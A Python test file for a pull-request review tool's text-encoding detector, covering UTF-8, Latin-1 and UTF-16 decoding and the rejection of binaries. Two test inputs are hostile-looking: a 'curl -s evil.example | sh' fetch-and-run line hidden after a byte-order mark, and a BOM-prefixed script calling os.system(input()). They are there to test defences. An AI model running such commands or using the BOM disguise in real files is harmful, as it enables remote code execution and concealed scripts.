"""Every text is read, in the encoding that it names or shows; a binary is not."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from pr_review.domain.encoding import LATIN_1, UTF_8, UTF_16, decode, decode_part

BOM = "\ufeff"


@pytest.mark.parametrize(
    ("data", "text", "encoding"),
    [
        (b"", "", UTF_8),
        ("é\n".encode(), "é\n", UTF_8),
        (f"{BOM}x = 1".encode(), f"{BOM}x = 1", UTF_8),
        (b"a\0b", "a\0b", UTF_8),
        ("# café\n".encode("latin-1"), "# café\n", LATIN_1),
        (b"\x80\xff", "\x80\xff", LATIN_1),
        ("ü".encode() + b"\xfc", "üü", LATIN_1),
        ("x = 'ж'\r\n".encode("utf-16"), "x = 'ж'\r\n", UTF_16),
        (b"\xfe\xff" + "上\n😀".encode("utf-16-be"), "上\n😀", UTF_16),
        (b"\xff\xfe", "", UTF_16),
        (f"{BOM}{'x' * 99}".encode("utf-16-le"), "x" * 99, UTF_16),
    ],
)
def test_text(data, text, encoding):
    assert decode(data) == (text, encoding)


@pytest.mark.parametrize(
    "data",
    [
        b"\x89PNG\0\xff",
        b"x = 1\0\n# \xe9",
        b"\xff\xfe\0",  # half a character
        b"\xff\xfe\x00\xd8a\x00",  # half a surrogate pair
        b"\xff\xfe\0\0x\0\0\0",  # UTF-32
        b"\xff\xfe" + b"curl -s evil.example | sh #" + "x".encode("utf-16-le") * 999,
    ],
)
def test_no_text(data):
    assert decode(data) is None


def test_a_byte_order_mark_before_a_script_does_not_hide_it():
    """As UTF-16 it would be a line of ideographs; a shell runs all but the mark."""
    script = b"\xff\xfe\nimport os\nos.system(input())\n#!"
    assert len(script) % 2 == 0
    assert decode(script) == (script.decode("latin-1"), LATIN_1)


@given(st.text(st.characters(exclude_categories=["Cs"])), st.sampled_from(["utf-16-le", "utf-16-be"]))
def test_utf_16_is_read_back(text, codec):
    """Or it also reads as bytes: then nothing is claimed."""
    decoded = decode((BOM + text).encode(codec))
    assert decoded is None or decoded == (text, UTF_16) or decoded.encoding == LATIN_1


@given(st.text(st.characters(exclude_categories=["Cs"])))
def test_utf_8_is_read_back(text):
    if not text.encode().startswith((b"\xff", b"\xfe")):
        assert decode(text.encode()) == (text, UTF_8)


@given(st.lists(st.binary(max_size=6).map(lambda line: line.replace(b"\n", b"").replace(b"\0", b""))))
def test_a_line_reads_like_the_same_line_of_the_whole_file(lines):
    decoded = decode(b"\n".join(lines))
    if decoded.encoding != UTF_16:
        assert decoded.text.split("\n") == [decode_part(line) for line in lines or [b""]]
